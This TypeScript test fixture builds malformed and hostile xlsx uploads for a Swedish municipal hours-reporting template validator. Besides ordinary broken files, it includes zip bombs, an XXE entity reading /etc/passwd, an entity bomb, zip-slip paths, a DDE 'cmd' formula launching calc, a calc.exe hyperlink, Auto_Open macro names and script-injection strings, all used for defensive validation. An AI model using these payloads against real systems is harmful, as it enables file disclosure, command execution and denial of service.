import { strFromU8, strToU8, unzipSync, zipSync } from 'fflate';
import type { InputProblemCode } from '../../src/sheets/templates/inputProblems';
import type { VerdictKind } from '../../src/sheets/templates/verdicts';
import type { SheetModel } from '../../src/workbook/sheetModel';
import type { CellValue } from '../../src/workbook/snapshot';
import { buildInsatsTemplate } from '../../src/sheets/goals/insatsTemplate';
import { sealed } from '../../src/sheets/templates/identity';
import { writeModels, type FileProblemCode } from '../../src/xlsx';
import { templateGoals } from '../sheets/goals/templateGoals';
import {
  filledHours,
  memberOf,
  placeOf,
  templateFor,
  withCells,
  type FilledRow,
  type Filling,
} from '../sheets/hours/filledHours';
import { Decimal } from '../../src/finsam/decimal';
import { cellAddress } from '../../src/workbook/addresses';
import { compoundFile, declareSize, packageWith, worksheet } from './zipFixtures';

/** Kinds of files that come back and are not as they should be, each made from the template of one organisation as it was filled in. */

export interface BadFile {
  readonly name: string;
  readonly kind: VerdictKind;
  /** Of the problem of the file, or of the first problem of its inputs; null where the kind says it all. */
  readonly code: FileProblemCode | InputProblemCode | null;
  readonly bytes: () => Uint8Array | Promise<Uint8Array>;
  /** What the file is called, where it matters. */
  readonly file?: string;
}

export const MEMBER = 'Gävle kommun';
const template = templateFor(MEMBER);
const ROW: FilledRow = { team: 'Söder', role: 'Socialsekreterare', posts: 1, hours: [100, 80.5, 60.25, 20] };
const FILLING: Filling = { rows: [ROW], comment: 'Som avtalat.', signedBy: 'Kim Exempel' };
const filled = filledHours(template, FILLING);
const hoursPlace = placeOf(template, 'hours');
const HOURS_CELL = cellAddress(hoursPlace.row, hoursPlace.column);
const teamPlace = placeOf(template, 'team');
const identity = template.names.find(({ name }) => name === 'Finsam_Mall')!.area;
const SHEET = 'xl/worksheets/sheet1.xml';
const WORKBOOK = 'xl/workbook.xml';
const STRINGS = 'xl/sharedStrings.xml';
const STYLES = 'xl/styles.xml';
const TYPES = '[Content_Types].xml';

const written =
  (model: SheetModel, ...more: readonly SheetModel[]) =>
  () =>
    writeModels([model, ...more]);
let wholeBytes: ReturnType<typeof writeModels> | null = null;
const whole = () => (wholeBytes ??= writeModels([filled]));
const withHours = (value: CellValue) =>
  written(filledHours(template, { ...FILLING, rows: [{ ...ROW, hours: [value, 80.5] }] }));
const withRow = (row: FilledRow) =>
  written(filledHours(template, { ...FILLING, rows: [{ ...ROW, ...row }] }));
const withFilling = (filling: Filling) => written(filledHours(template, { ...FILLING, ...filling })); // prettier-ignore

type Part = string | Uint8Array | null;

/** The file with some of its parts changed, or taken away where null. */
function parts(changes: Readonly<Record<string, Part | ((text: string) => Part)>>, make = whole) {
  return async (): Promise<Uint8Array> => {
    const files = unzipSync(await make());
    for (const [path, change] of Object.entries(changes)) {
      const part = typeof change === 'function' ? change(strFromU8(files[path]!)) : change;
      if (part === null) delete files[path];
      else files[path] = typeof part === 'string' ? strToU8(part) : Uint8Array.from(part);
    }
    // Packed hardly at all: what is tested is not how well it is packed, and bombs of zeros shrink to a thousandth anyway.
    return zipSync(files, { level: 1 });
  };
}

/** Replaces what is there: a text that is not found is a mistake in the test. */
function replaced(text: string, pattern: RegExp | string, replacement: string): string {
  const changed = text.replace(pattern, () => replacement);
  if (changed === text) throw new Error(`There is no ${String(pattern)}`);
  return changed;
}

const inSheet = (pattern: RegExp | string, replacement: string) =>
  parts({ [SHEET]: (text) => replaced(text, pattern, replacement) });
const inWorkbook = (pattern: RegExp | string, replacement: string) =>
  parts({ [WORKBOOK]: (text) => replaced(text, pattern, replacement) });
const hoursAs = (attributes: string, content: string) =>
  inSheet(
    new RegExp(`<c r="${HOURS_CELL}"( s="\\d+")><v>100</v></c>`),
    `<c r="${HOURS_CELL}"${attributes}>${content}</c>`,
  );
/** A number in the first cell of the hours, which is shown by a format: one of Excel's own by its number, or one that is written out. */
function shownAs(format: number | string, value: number, cell = HOURS_CELL) {
  let look = 0;
  const id = typeof format === 'number' ? format : 900;
  const own = typeof format === 'number' ? '' : `<numFmt numFmtId="${id}" formatCode="${format}"/>`;
  return parts({
    [STYLES]: (text) => {
      look = Number(/<cellXfs count="(\d+)"/.exec(text)![1]);
      return replaced(
        replaced(text, '</numFmts>', `${own} </numFmts>`),
        '</cellXfs>',
        `<xf numFmtId="${id}" fontId="0" fillId="0" borderId="0" applyNumberFormat="1"/></cellXfs>`,
      );
    },
    [SHEET]: (text) =>
      replaced(
        text,
        new RegExp(`<c r="${cell}"[^>]*><v>[^<]*</v></c>`),
        `<c r="${cell}" s="${look}"><v>${value}</v></c>`,
      ),
  });
}
const POSTS_CELL = cellAddress(hoursPlace.row, hoursPlace.column - 1);
const locked = (down: number, right: number, value: CellValue) =>
  written(withCells(filled, [{ row: down, column: right, value }]));
const identityPiece = (piece: number, value: string) => locked(identity.row + piece, identity.column, value);
const contentType = (type: string) =>
  parts({ [TYPES]: (text) => replaced(text, 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml', type) }); // prettier-ignore

async function truncated(part: number): Promise<Uint8Array> {
  const bytes = await whole();
  return bytes.slice(0, Math.floor(bytes.length * part));
}

async function withChangedByte(): Promise<Uint8Array> {
  const bytes = Uint8Array.from(await whole());
  const middle = Math.floor(bytes.length / 2);
  bytes[middle] = (bytes[middle] ?? 0) ^ 0xff;
  return bytes;
}

/** The letters of a text as UTF-16 and as Windows-1252, which files of this kind are never written in. */
const utf16 = (text: string) => Uint8Array.from([0xff, 0xfe, ...Buffer.from(text, 'utf16le')]);
const windows1252 = (text: string): Uint8Array =>
  Uint8Array.from([...text], (letter) => (letter <= '\u00ff' ? letter.charCodeAt(0) : 0x3f));

/** Rows from one on, moved down or up, with everything that is on them. */
function movedRows(model: SheetModel, from: number, by: number): SheetModel {
  const moved = (row: number) => (row >= from ? row + by : row);
  return {
    ...model,
    cells: model.cells
      .filter(({ row }) => by > 0 || row < from + by || row >= from)
      .map((cell) => ({ ...cell, row: moved(cell.row) })),
    names: model.names.map((name) => ({
      ...name,
      area:
        name.area.row < from && name.area.row + name.area.rows > from
          ? { ...name.area, rows: name.area.rows + by }
          : { ...name.area, row: moved(name.area.row) },
    })),
  };
}

/** Columns from one on, moved to the right. */
function movedColumns(model: SheetModel, from: number): SheetModel {
  const moved = (column: number) => (column >= from ? column + 1 : column);
  return {
    ...model,
    cells: model.cells.map((cell) => ({ ...cell, column: moved(cell.column) })),
    names: model.names.map((name) => ({
      ...name,
      area:
        name.area.column < from && name.area.column + name.area.columns > from
          ? { ...name.area, columns: name.area.columns + 1 }
          : { ...name.area, column: moved(name.area.column) },
    })),
  };
}

/** The template with another identity, and with the checksum that belongs to it: what another version or another association sends. */
function resealed(piece: number, value: string): SheetModel {
  return filledHours(
    sealed(withCells(template, [{ row: identity.row + piece, column: identity.column, value }])),
    FILLING,
  );
}

const plain: SheetModel = {
  ...template,
  name: 'Blad1',
  names: [],
  validations: [],
  cells: [{ row: 0, column: 0, value: 'Hej', role: 'text', format: 'general' }],
};
const insats = buildInsatsTemplate(templateGoals, 'Trisam', 1);
const strangers = { ...memberOf(MEMBER), name: 'Okända kommunen' };
const PNG = Uint8Array.from([
  0x89,
  0x50,
  0x4e,
  0x47,
  0x0d,
  0x0a,
  0x1a,
  0x0a,
  ...new Array<number>(200).fill(7),
]);
const doctype = (declaration: string) =>
  parts({ [SHEET]: (text) => replaced(text, '<worksheet', `<!DOCTYPE x ${declaration}><worksheet`) }); // prettier-ignore
const noise = (length: number) => {
  let state = 1;
  return Uint8Array.from({ length }, () => ((state = (state * 48_271) % 2_147_483_647) >>> 8) & 0xff);
}; // prettier-ignore

/** A thousand texts that are not as alike as those of a bomb. */
const SOME_TEXTS = Array.from(
  { length: 1000 },
  (_, index) => `<si><t>${(index * 7919) % 1009}</t></si>`,
).join('');

/** Files that nothing is taken of. */
export const REFUSED: readonly BadFile[] = (
  [
    // No workbooks.
    ['an empty file', 'damaged', 'notWorkbook', () => new Uint8Array(0)],
    ['a single byte', 'damaged', 'notWorkbook', () => Uint8Array.from([0x50])],
    ['a text', 'damaged', 'notWorkbook', () => strToU8('Hej! Vi hade 260 timmar i år.')],
    ['a csv file', 'damaged', 'notWorkbook', () => strToU8('Team;Timmar\r\nSöder;100\r\n')],
    ['a csv file that is called .xlsx', 'damaged', 'notWorkbook', () => strToU8('Team,Timmar\nSöder,100\n')],
    ['a web page that is called .xls', 'damaged', 'notWorkbook', () => strToU8('<html><table><tr><td>100</td></tr></table>')],
    ['a PDF', 'damaged', 'notWorkbook', () => strToU8('%PDF-1.7\n1 0 obj\n<<>>\nendobj\n%%EOF')],
    ['an image', 'damaged', 'notWorkbook', () => PNG],
    ['random bytes', 'damaged', 'notWorkbook', () => noise(5000)],
    ['nothing but zeros', 'damaged', 'notWorkbook', () => new Uint8Array(5000)],
    ['a program', 'damaged', 'notWorkbook', () => strToU8('MZ\u0090\u0000This program cannot be run in DOS mode.')],
    ['an old workbook (.xls)', 'damaged', 'oldFormat', () => compoundFile('Workbook')],
    ['a Word document of the old kind', 'damaged', 'notWorkbook', () => compoundFile('WordDocument')],
    ['an encrypted workbook', 'damaged', 'encrypted', () => compoundFile('EncryptedPackage')],
    ['a binary workbook (.xlsb)', 'damaged', 'binaryFormat', contentType('application/vnd.ms-excel.sheet.binary.macroEnabled.main')],
    ['a workbook with macros (.xlsm)', 'damaged', 'macros', contentType('application/vnd.ms-excel.sheet.macroEnabled.main+xml')],
    ['a template with macros (.xltm)', 'damaged', 'macros', contentType('application/vnd.ms-excel.template.macroEnabled.main+xml')],
    ['a Word document', 'damaged', 'notWorkbook', contentType('application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml')],
    ['a presentation', 'damaged', 'notWorkbook', contentType('application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml')],
    ['a zip of pictures', 'damaged', 'notWorkbook', () => zipSync({ 'bild.png': PNG })],
    ['a zip of the workbook', 'damaged', 'notWorkbook', async () => zipSync({ 'rapport.xlsx': await whole() })],
    ['an empty zip', 'damaged', 'notWorkbook', () => zipSync({})],

    // Bombs and giants.
    ['a zip bomb in a sheet that nobody points at', 'damaged', 'tooLargeUnpacked', parts({ 'xl/worksheets/sheet9.xml': new Uint8Array(12_000_000) })],
    ['a zip bomb in the sheet', 'damaged', 'tooLargeUnpacked', parts({ [SHEET]: `<a>${' '.repeat(12_000_000)}</a>` })],
    ['a zip bomb in the shared texts', 'damaged', 'tooLargeUnpacked', parts({ [STRINGS]: `<sst>${'<si/>'.repeat(3_000_000)}</sst>` })],
    ['more shared texts than any sheet has cells', 'damaged', 'tooManyCells', parts({ [STRINGS]: `<sst>${SOME_TEXTS.repeat(1_550)}</sst>` })],
    ['a zip bomb that declares little', 'damaged', 'damaged', async () => declareSize(await parts({ 'xl/a.xml': new Uint8Array(12_000_000) })(), 1000)],
    ['a zip that declares gigabytes', 'damaged', 'tooLargeUnpacked', async () => declareSize(await whole(), 0xfffffff0)],
    ['a zip of too many parts', 'damaged', 'tooLargeUnpacked', () => zipSync(Object.fromEntries(Array.from({ length: 5100 }, (_, index) => [`xl/media/${index}.xml`, new Uint8Array(0)])), { level: 0 })],
    ['more bytes than are read', 'damaged', 'tooLarge', () => new Uint8Array(50 * 1024 * 1024 + 1)],
    ['a cell in the last corner', 'damaged', 'tooManyCells', inSheet('</sheetData>', '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row></sheetData>')],
    ['elements nested without end', 'damaged', 'damaged', inSheet('<sheetData>', `<sheetData>${'<a>'.repeat(100_000)}`)],

    // Damaged packages.
    ['half a file', 'damaged', 'damaged', () => truncated(0.5)],
    ['a file without its last bytes', 'damaged', 'damaged', async () => (await whole()).slice(0, -10)],
    ['a file without its first bytes', 'damaged', 'notWorkbook', async () => (await whole()).slice(10)],
    ['a changed byte', 'damaged', 'damaged', withChangedByte],
    ['a sheet that is cut off', 'damaged', 'damaged', parts({ [SHEET]: (text) => text.slice(0, text.length / 2) })],
    ['a tag that is not closed', 'damaged', 'damaged', inSheet('</row>', '')],
    ['shared texts that are cut off', 'damaged', 'damaged', parts({ [STRINGS]: (text) => text.slice(0, text.length / 2) })],
    ['a workbook part that is cut off', 'damaged', 'damaged', parts({ [WORKBOOK]: (text) => text.slice(0, text.length / 2) })],
    ['no list of types', 'damaged', 'notWorkbook', parts({ [TYPES]: null })],
    ['no relations', 'damaged', 'missingParts', parts({ '_rels/.rels': null })],
    ['no workbook part', 'damaged', 'missingParts', parts({ [WORKBOOK]: null })],
    ['no relations of the workbook', 'damaged', 'missingParts', parts({ 'xl/_rels/workbook.xml.rels': null })],
    ['no part of the sheet', 'damaged', 'missingParts', parts({ [SHEET]: null })],
    ['no shared texts', 'damaged', 'missingParts', parts({ [STRINGS]: null })],
    ['an entity from outside', 'damaged', 'damaged', doctype('SYSTEM "file:///etc/passwd"')],
    ['an entity of its own', 'damaged', 'damaged', doctype('[<!ENTITY a "1">]')],
    ['an entity bomb', 'damaged', 'damaged', doctype('[<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;">]')],
    ['a path out of the package', 'damaged', 'damaged', parts({ '../../etc/cron.d/x.xml': 'x' })],
    ['an absolute path', 'damaged', 'damaged', parts({ '/etc/passwd.xml': 'x' })],
    ['a path of Windows', 'damaged', 'damaged', parts({ 'xl\\..\\..\\x.xml': 'x' })],
    ['two parts of one name but for case', 'damaged', 'damaged', parts({ 'xl/Worksheets/Sheet1.xml': '<worksheet/>' })],
    ['a sheet in UTF-16', 'damaged', 'damaged', parts({ [SHEET]: utf16 })],
    ['shared texts in UTF-16', 'damaged', 'damaged', parts({ [STRINGS]: utf16 })],
    ['shared texts in Windows-1252', 'damaged', 'damaged', parts({ [STRINGS]: windows1252 })],
    ['a workbook part in Windows-1252', 'damaged', 'damaged', parts({ [WORKBOOK]: windows1252 })],

    // Workbooks that are no template for this.
    ['an ordinary workbook', 'notATemplate', null, written(plain)],
    ['the smallest workbook', 'notATemplate', null, () => packageWith()],
    ['a workbook without cells', 'notATemplate', null, () => packageWith({ [SHEET]: worksheet('') })],
    ['the template of the goals', 'notATemplate', null, written(insats)],
    ['the template of another association', 'otherAssociation', null, written(filledHours(templateFor(MEMBER, '2025-T1', { association: 'Samordningsförbund Annat' }), FILLING))],
    ['the template of another version', 'otherVersion', null, written(resealed(4, '2'))],
    ['the template of an organisation that the plan does not know', 'unknownMember', null, written(filledHours(templateFor(strangers), FILLING))],
    ['another year', 'wrongPeriod', null, written(filledHours(templateFor(MEMBER, '2024-T1'), FILLING))],
    ['the year after', 'wrongPeriod', null, written(filledHours(templateFor(MEMBER, '2026-T1'), FILLING))],
    ['another kind of period', 'wrongPeriod', null, written(filledHours(templateFor(MEMBER, '2025-K1'), { ...FILLING, rows: [{ ...ROW, hours: [1] }] }))],
    ['a month', 'wrongPeriod', null, written(filledHours(templateFor(MEMBER, '2025-01'), { ...FILLING, rows: [{ ...ROW, hours: [1] }] }))],
    ['a period that is none', 'wrongPeriod', null, written(resealed(3, '2025-T9'))],
    ['a period in words', 'wrongPeriod', null, written(resealed(3, '=HYPERLINK("http://x")'))],

    // Templates that have been changed.
    ['the sheet removed, its names left', 'notATemplate', null, inWorkbook('name="Trisamtimmar" sheetId', 'name="Blad1" sheetId')],
    ['all names removed', 'notATemplate', null, inWorkbook(/<definedNames>.*<\/definedNames>/, '')],
    ['the identity removed', 'notATemplate', null, written(withCells(filled, Array.from({ length: 6 }, (_, down) => ({ row: identity.row + down, column: identity.column, value: null }))))],
    ['a piece of the identity removed', 'notATemplate', null, locked(identity.row + 2, identity.column, null)],
    ['no version', 'notATemplate', null, identityPiece(4, 'ett')],
    ['the organisation edited to another', 'changedStructure', null, identityPiece(2, 'Sandviken kommun')],
    ['the period edited', 'changedStructure', null, identityPiece(3, '2025-T2')],
    ['the checksum edited', 'changedStructure', null, identityPiece(5, '00000000')],
    ['the checksum as a formula', 'notATemplate', null, written({ ...filled, cells: filled.cells.map((cell) => (cell.row === identity.row + 5 && cell.column === identity.column ? { ...cell, value: '', formula: '=""' } : cell)) })],
    ['the name of the hours removed', 'changedStructure', null, inWorkbook(/<definedName name="Finsam_Mall_Timmar".*?<\/definedName>/, '')],
    ['the name of the comment removed', 'changedStructure', null, inWorkbook(/<definedName name="Finsam_Mall_Kommentar".*?<\/definedName>/, '')],
    ['the name of the hours broken', 'changedStructure', null, inWorkbook(/(?<=Finsam_Mall_Timmar"[^>]*>)[^<]*/, '#REF!')],
    ['the name of the hours moved', 'changedStructure', null, inWorkbook(/(?<=Finsam_Mall_Timmar"[^>]*>)[^<]*/, 'Trisamtimmar!$H$16:$K$21')],
    ['the name of the hours made endless', 'changedStructure', null, inWorkbook(/(?<=Finsam_Mall_Timmar"[^>]*>)[^<]*/, 'Trisamtimmar!$A$1:$XFD$1048576')],
    ['the name of the rate moved to an input', 'changedStructure', null, inWorkbook(/(?<=Finsam_Mallrad_Timpris"[^>]*>)[^<]*/, `Trisamtimmar!$D$${hoursPlace.row + 1}`)],
    ['a row inserted among the teams', 'changedStructure', null, written(movedRows(filled, teamPlace.row + 2, 1))],
    ['a row deleted among the teams', 'changedStructure', null, written(movedRows(filled, teamPlace.row + 3, -1))],
    ['a column inserted among the months', 'changedStructure', null, written(movedColumns(filled, hoursPlace.column + 1))],
    ['a column inserted before the sheet', 'changedStructure', null, written(movedColumns(filled, 0))],
    ['a month renamed', 'changedStructure', null, locked(hoursPlace.row - 2, hoursPlace.column, 'feb')],
    ['two months in each other’s place', 'changedStructure', null, written(withCells(filled, [{ row: hoursPlace.row - 2, column: hoursPlace.column, value: 'feb' }, { row: hoursPlace.row - 2, column: hoursPlace.column + 1, value: 'jan' }]))],
    ['a label changed', 'changedStructure', null, locked(0, 0, 'Gävle')],
    ['a label deleted', 'changedStructure', null, locked(7, 0, null)],
    ['the rate changed', 'changedStructure', null, locked(placeOf(template, 'hours').row - 4, 1, 500)],
    ['the bound of a month changed', 'changedStructure', null, locked(hoursPlace.row - 1, hoursPlace.column, 9999)],
    ['a note beside the table', 'changedStructure', null, locked(hoursPlace.row, 12, 'Semester i mars')],
    ['a number under the table', 'changedStructure', null, locked(hoursPlace.row + 40, 3, 12)],
    ['a sum overwritten', 'changedStructure', null, written({ ...filled, cells: filled.cells.map((cell) => (cell.row === hoursPlace.row && cell.column === hoursPlace.column + 4 ? { row: cell.row, column: cell.column, value: 1, role: 'computed', format: 'hours' } : cell)) })],

    // Inputs that are no values.
    ['a formula in an hour', 'unreadable', 'formula', hoursAs('', '<f>50+50</f><v>100</v>')],
    ['a formula without value', 'unreadable', 'formula', hoursAs('', '<f>50+50</f>')],
    ['a link to another workbook', 'unreadable', 'formula', hoursAs('', '<f>[1]Blad1!$A$1</f><v>100</v>')],
    ['a formula of a service', 'unreadable', 'formula', hoursAs(' t="str"', '<f>WEBSERVICE("http://example.com/"&amp;A1)</f><v>100</v>')],
    ['a DDE formula', 'unreadable', 'formula', hoursAs(' t="str"', "<f>cmd|'/C calc'!A0</f><v>100</v>")],
    ['an array formula over the hours', 'unreadable', 'formula', hoursAs('', `<f t="array" ref="${HOURS_CELL}:${cellAddress(hoursPlace.row, hoursPlace.column + 1)}">{1,2}</f><v>1</v>`)],
    ['a formula in a team', 'unreadable', 'formula', written({ ...filled, cells: filled.cells.map((cell) => (cell.row === teamPlace.row && cell.column === 0 ? { ...cell, formula: '="Sö"&"der"' } : cell)) })],
    ['a formula in the comment', 'unreadable', 'formula', written({ ...filled, cells: filled.cells.map((cell) => (cell.value === 'Som avtalat.' ? { ...cell, formula: '=HYPERLINK("http://example.com","Som avtalat.")' } : cell)) })],
    ['an error', 'unreadable', 'error', withHours({ error: '#DIV/0!' })],
    ['an error in a team', 'unreadable', 'error', withRow({ team: { error: '#N/A' } })],
    ['a truth value', 'unreadable', 'unreadable', withHours(true)],
    ['text that is no number', 'unreadable', 'unreadable', withHours('ca 5')],
    ['a date as text', 'unreadable', 'unreadable', withHours('2025-01-02')],
    ['NaN', 'unreadable', 'unreadable', withHours('NaN')],
    ['Infinity', 'unreadable', 'unreadable', withHours('Infinity')],
    ['a percentage as text', 'unreadable', 'unreadable', withHours('50 %')],
    ['an amount of money', 'unreadable', 'unreadable', withHours('12 kr')],
    ['a point that may part thousands', 'unreadable', 'unreadable', withHours('1.234')],
    ['a comma that may part thousands', 'unreadable', 'unreadable', withHours('1,234')],
    ['two numbers in a cell', 'unreadable', 'unreadable', withHours('7 + 8')],
    ['a formula as text', 'unreadable', 'unreadable', withHours('=1+1')],
    ['a very long text for hours', 'unreadable', 'unreadable', withHours('1 h '.repeat(8000))],
    ['a number that is none in the file', 'unreadable', 'unreadable', hoursAs('', '<v>hundra</v>')],
    ['a huge exponent', 'outOfBounds', 'tooLarge', hoursAs('', '<v>1E+308</v>')],
    ['a number beyond all numbers', 'outOfBounds', 'tooLarge', hoursAs('', '<v>1E+999</v>')],
    ['a date as a number', 'outOfBounds', 'tooLarge', withHours(45_659)],
    ['a negative number', 'outOfBounds', 'tooSmall', withHours(-8)],
    ['a tenth of an hour', 'outOfBounds', 'notQuarter', withHours(0.1)],
    ['a percentage', 'outOfBounds', 'notQuarter', withHours(0.8)],
    ['more than the month has', 'outOfBounds', 'tooLarge', withHours(184.25)],
    ['more than two posts may work', 'outOfBounds', 'tooLarge', withRow({ posts: 2, hours: [368.25] })],
    ['a time that is no quarter of an hour', 'outOfBounds', 'notQuarter', shownAs(20, 440 / 1440)],
    ['a time that is longer than the month', 'outOfBounds', 'tooLarge', shownAs(46, 8)],
    ['hours that are shown as a time of the day', 'unreadable', 'timeUnclear', shownAs(20, 7.5)],
    ['a time before midnight', 'unreadable', 'timeUnclear', shownAs('[h]:mm', -0.25)],
    ['a time for posts', 'unreadable', 'timeUnclear', shownAs('hh:mm', 0.5, POSTS_CELL)],
    ['posts as text', 'unreadable', 'unreadable', withRow({ posts: 'två' })],
    ['negative posts', 'outOfBounds', 'tooSmall', withRow({ posts: -1 })],
    ['a comment that is too long', 'unreadable', 'longText', withFilling({ comment: 'x'.repeat(1001) })],
    ['a team that is too long', 'unreadable', 'longText', withRow({ team: 'x'.repeat(32_767) })],
    ['an empty template', 'empty', null, written(template)],
    ['a template with a name and no hours', 'empty', null, written(filledHours(template, { signedBy: 'Kim' }))],
    ['a template with teams and no hours', 'empty', null, written(filledHours(template, { rows: [{ team: 'Söder', role: 'Chef', posts: 1 }] }))],
  ] as const
).map(([name, kind, code, bytes]) => ({ name, kind, code, bytes })); // prettier-ignore

const HYPERLINK =
  '<hyperlinks><hyperlink ref="A1" location="\'C:\\Windows\\System32\\calc.exe\'!A1" display="Klicka"/></hyperlinks>';
const MACRO_NAMES = '<definedName name="Auto_Open" function="1" vbProcedure="1" xlm="1">Trisamtimmar!$A$1</definedName><definedName name="_xlnm.Auto_Open">Trisamtimmar!$A$1</definedName></definedNames>'; // prettier-ignore
const other = (name: string): SheetModel => ({ ...plain, name });
const forged = { ...memberOf(MEMBER), rate: new Decimal(400) };

/** Files that are taken in, with what is told of them. The first code alone. */
export const TAKEN: readonly BadFile[] = (
  [
    ['text with a comma', 'received', 'readAs', withHours('1,5')],
    ['text with a point', 'received', 'readAs', withHours('1.5')],
    ['hours and minutes', 'received', 'readAs', withHours('1:30')],
    ['a time', 'received', 'timeRead', shownAs(20, 0.25)],
    ['a time with seconds', 'received', 'timeRead', shownAs(21, 0.3125)],
    ['a time of fifteen digits', 'received', 'timeRead', shownAs('[$-F400]h:mm:ss\\ AM/PM', 0.302083333333333)],
    ['a time of more than a day', 'received', 'timeRead', shownAs('[hh]:mm', 1.25)],
    ['a number with a unit that looks like a time', 'received', null, shownAs('0.00\\ &quot;tim (h:mm)&quot;', 0.25)],
    ['a number of Excel’s own format', 'received', null, shownAs(2, 0.25)],
    ['a fraction', 'received', 'readAs', withHours('1 ½')],
    ['a number as text between blanks', 'received', 'readAs', withHours('\u00a0 100 ')],
    ['no team', 'received', 'noTeam', withRow({ team: null })],
    ['a number for a team', 'received', null, withRow({ team: 12 })],
    ['one team and role twice', 'received', 'sameRow', written(filledHours(template, { ...FILLING, rows: [ROW, ROW] }))],
    ['a date that is none', 'received', 'notADate', withFilling({ signedOn: 'i går' })],
    ['nobody’s name', 'received', 'unsigned', withFilling({ signedBy: null })],
    ['a rate of before', 'received', 'rateDiffers', written(filledHours(templateFor(forged), FILLING))],
    ['texts that look like formulas', 'received', null, written(filledHours(template, { rows: [{ ...ROW, team: '=1+1', role: '@SUM(A1)' }], comment: "=cmd|'/C calc'!A0", signedBy: '+46 70', signedRole: '-x' }))],
    ['texts that look like markup', 'received', null, written(filledHours(template, { rows: [{ ...ROW, team: '<script>alert(1)</script>', role: '&lt;b&gt;' }], comment: '_x000D_ ]]> {key} $&', signedBy: '"Kim"' }))],
    ['a hyperlink', 'received', null, inSheet('<pageMargins', `${HYPERLINK}<pageMargins`)],
    ['names that look like macros', 'received', null, inWorkbook('</definedNames>', MACRO_NAMES)],
    ['a hidden sheet', 'received', null, parts({ [WORKBOOK]: (text) => replaced(text, '<sheet name="Dold"', '<sheet state="veryHidden" name="Dold"') }, written(filled, other('Dold')))],
    ['very many sheets', 'received', null, written(filled, ...Array.from({ length: 60 }, (_, index) => other(`Blad ${index}`)))],
    ['another sheet before it', 'received', null, written(other('Mina anteckningar'), filled)],
    ['a sheet of very many cells beside it', 'received', null, written(filled, { ...plain, cells: Array.from({ length: 5_000 }, (_, index) => ({ row: Math.floor(index / 20), column: index % 20, value: index, role: 'text', format: 'general' })) })],
    ['an empty row inserted above', 'received', null, written(movedRows(filled, 2, 1))],
    ['protection taken away', 'received', null, inSheet(/<sheetProtection[^>]*\/>/, '')],
    ['validations taken away', 'received', null, inSheet(/<dataValidations.*<\/dataValidations>/, '')],
    ['texts in the cells themselves', 'received', 'readAs', hoursAs(' t="inlineStr"', '<is><t>100</t></is>')],
    ['rich texts in the cells themselves', 'received', 'readAs', hoursAs(' t="inlineStr"', '<is><r><t>10</t></r><r><rPr><b/></rPr><t>0</t></r></is>')],
    ['a part of another kind', 'received', null, parts({ 'xl/media/image1.png': PNG, 'customXml/item1.xml': utf16('<a/>') })],
    ['a script as a part', 'received', null, parts({ 'xl/vbaProject.bin': noise(100), 'xl/evil.js': 'alert(1)' })],
  ] as const
).map(([name, kind, code, bytes]) => ({ name, kind, code, bytes })); // prettier-ignore
